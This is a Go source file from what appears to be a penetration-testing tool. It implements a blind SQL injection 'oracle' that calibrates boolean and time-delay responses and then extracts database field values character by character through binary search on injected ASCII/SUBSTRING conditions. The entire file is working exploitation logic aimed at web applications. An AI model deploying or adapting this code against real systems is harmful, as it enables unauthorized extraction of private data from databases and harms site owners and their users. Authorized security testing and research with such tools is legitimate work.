package exploit

import (
	"context"
	"fmt"
	"time"

	"github.com/rs/zerolog"

	"github.com/ahmad-20th/GrayTera/pkg/config"
	"github.com/ahmad-20th/GrayTera/pkg/payloads"
	"github.com/ahmad-20th/GrayTera/pkg/scan"
)

// Oracle alphabet bounds: printable ASCII. Binary search over this
// range costs at most 7 queries per character.
const (
	alphabetLow  = 32
	alphabetHigh = 126
)

// delayFraction mirrors the detection threshold: a TRUE probe must
// exceed the baseline by this share of the induced delay
const delayFraction = 0.8

// Oracle recovers data one bit at a time through a boolean or time
// side channel. It calibrates known-true and known-false responses
// before searching, and answers every extraction question by binary
// search over the character alphabet.
type Oracle struct {
	requester scan.Requester
	catalog   *payloads.Catalog
	cfg       *config.OracleConfig
	logger    zerolog.Logger
}

func NewOracle(r scan.Requester, catalog *payloads.Catalog, cfg *config.OracleConfig, logger zerolog.Logger) *Oracle {
	return &Oracle{
		requester: r,
		catalog:   catalog,
		cfg:       cfg,
		logger:    logger.With().Str("component", "oracle").Logger(),
	}
}

// Extract recovers the plan's fields through the vulnerability's side
// channel. Partial data is returned alongside the error when a field
// aborts; fields already recovered are kept.
func (o *Oracle) Extract(ctx context.Context, vuln *scan.Vulnerability, plan ExtractionPlan) (map[string]string, error) {
	if vuln.Technique != scan.TechniqueBooleanBlind && vuln.Technique != scan.TechniqueTimeBlind {
		return nil, fmt.Errorf("%w: %s", ErrUnsupportedTechnique, vuln.Technique)
	}

	sess, err := o.calibrate(ctx, vuln)
	if err != nil {
		return nil, err
	}

	data := make(map[string]string)
	for _, field := range plan.Fields {
		query, ok := o.catalog.ExtractionQuery(plan.DBMS, field)
		if !ok {
			continue
		}

		sess.resetBudget(o.cfg.MaxQueriesPerField, o.cfg.FieldBudget)

		value, err := o.extractField(ctx, sess, query)
		if value != "" {
			data[field] = value
		}
		if err != nil {
			o.logger.Warn().
				Err(err).
				Str("field", field).
				Int("recovered_chars", len(value)).
				Msg("field extraction aborted")
			return data, err
		}

		o.logger.Info().
			Str("field", field).
			Int("length", len(value)).
			Int("queries", sess.queries).
			Msg("field extracted")
	}

	return data, nil
}

// calibrate probes known-true and known-false conditions until a
// context is found whose responses are both stable and distinguishable.
// Without that separation no extraction is possible.
func (o *Oracle) calibrate(ctx context.Context, vuln *scan.Vulnerability) (*oracleSession, error) {
	if vuln.Technique == scan.TechniqueTimeBlind {
		return o.calibrateTime(ctx, vuln)
	}
	return o.calibrateBoolean(ctx, vuln)
}

func (o *Oracle) calibrateBoolean(ctx context.Context, vuln *scan.Vulnerability) (*oracleSession, error) {
	for _, boundary := range o.catalog.Boundaries() {
		truePayload := boundary.Prefix + "1=1" + boundary.Suffix
		falsePayload := boundary.Prefix + "1=2" + boundary.Suffix

		trueFP, err := o.fingerprint(ctx, vuln.Point, truePayload)
		if err != nil {
			return nil, err
		}
		controlFP, err := o.fingerprint(ctx, vuln.Point, truePayload)
		if err != nil {
			return nil, err
		}
		falseFP, err := o.fingerprint(ctx, vuln.Point, falsePayload)
		if err != nil {
			return nil, err
		}

		if !trueFP.Equal(controlFP) {
			continue
		}
		if trueFP.Equal(falseFP) {
			continue
		}

		return &oracleSession{
			point:    vuln.Point,
			mode:     scan.TechniqueBooleanBlind,
			boundary: boundary,
			trueFP:   trueFP,
			falseFP:  falseFP,
		}, nil
	}

	return nil, fmt.Errorf("calibration failed, TRUE and FALSE responses indistinguishable: %w", ErrAmbiguousSignal)
}

func (o *Oracle) calibrateTime(ctx context.Context, vuln *scan.Vulnerability) (*oracleSession, error) {
	delaySec := int(o.cfg.TimeDelay.Seconds())
	if delaySec < 1 {
		delaySec = 1
	}

	var baseline time.Duration
	for i := 0; i < 2; i++ {
		elapsed, err := o.timing(ctx, vuln.Point, "")
		if err != nil {
			return nil, err
		}
		if elapsed > baseline {
			baseline = elapsed
		}
	}
	threshold := baseline + time.Duration(delayFraction*float64(delaySec)*float64(time.Second))

	for _, tpl := range o.catalog.TimeTemplates() {
		truePayload := tpl.Render(payloads.Params{Condition: "1=1", Delay: delaySec})
		falsePayload := tpl.Render(payloads.Params{Condition: "1=2", Delay: delaySec})

		falseElapsed, err := o.timing(ctx, vuln.Point, falsePayload)
		if err != nil {
			return nil, err
		}
		trueElapsed, err := o.timing(ctx, vuln.Point, truePayload)
		if err != nil {
			return nil, err
		}

		if trueElapsed < threshold || falseElapsed >= threshold {
			continue
		}

		return &oracleSession{
			point:     vuln.Point,
			mode:      scan.TechniqueTimeBlind,
			template:  tpl,
			baseline:  baseline,
			threshold: threshold,
			delaySec:  delaySec,
		}, nil
	}

	return nil, fmt.Errorf("calibration failed, no dialect produced a conditional delay: %w", ErrAmbiguousSignal)
}

// extractField recovers one scalar value character by character. Each
// position costs one existence probe plus at most seven binary-search
// probes.
func (o *Oracle) extractField(ctx context.Context, sess *oracleSession, query string) (string, error) {
	maxLength := o.cfg.MaxLength
	if maxLength <= 0 {
		maxLength = 64
	}

	var value []byte
	for pos := 1; pos <= maxLength; pos++ {
		exists, err := o.ask(ctx, sess, fmt.Sprintf("LENGTH((%s))>=%d", query, pos))
		if err != nil {
			return string(value), err
		}
		if !exists {
			break
		}

		low, high := alphabetLow, alphabetHigh
		for low < high {
			mid := (low + high) / 2
			greater, err := o.ask(ctx, sess, fmt.Sprintf("ASCII(SUBSTRING((%s),%d,1))>%d", query, pos, mid))
			if err != nil {
				return string(value), err
			}
			if greater {
				low = mid + 1
			} else {
				high = mid
			}
		}

		value = append(value, byte(low))
	}

	return string(value), nil
}

// ask answers one yes/no question through the side channel. Boolean
// responses that match neither calibrated fingerprint are retried up to
// the noise budget, then abort the field.
func (o *Oracle) ask(ctx context.Context, sess *oracleSession, condition string) (bool, error) {
	payload := sess.payloadFor(condition)

	for attempt := 0; attempt <= o.cfg.NoiseRetries; attempt++ {
		if !sess.spend() {
			return false, ErrBudgetExceeded
		}

		if sess.mode == scan.TechniqueTimeBlind {
			elapsed, err := o.timing(ctx, sess.point, payload)
			if err != nil {
				return false, err
			}
			return elapsed >= sess.threshold, nil
		}

		fp, err := o.fingerprint(ctx, sess.point, payload)
		if err != nil {
			return false, err
		}

		switch {
		case fp.Equal(sess.trueFP):
			return true, nil
		case fp.Equal(sess.falseFP):
			return false, nil
		}
		// Neither pattern matched: noise, retry
	}

	return false, ErrAmbiguousSignal
}

func (o *Oracle) fingerprint(ctx context.Context, point scan.InjectionPoint, payload string) (scan.Fingerprint, error) {
	method, reqURL, body, headers, err := point.BuildRequest(payload)
	if err != nil {
		return scan.Fingerprint{}, err
	}
	resp, err := o.requester.Do(ctx, method, reqURL, body, headers)
	if err != nil {
		return scan.Fingerprint{}, err
	}
	return scan.NewFingerprint(resp), nil
}

func (o *Oracle) timing(ctx context.Context, point scan.InjectionPoint, payload string) (time.Duration, error) {
	method, reqURL, body, headers, err := point.BuildRequest(payload)
	if err != nil {
		return 0, err
	}
	resp, err := o.requester.Do(ctx, method, reqURL, body, headers)
	if err != nil {
		return 0, err
	}
	return resp.Duration, nil
}
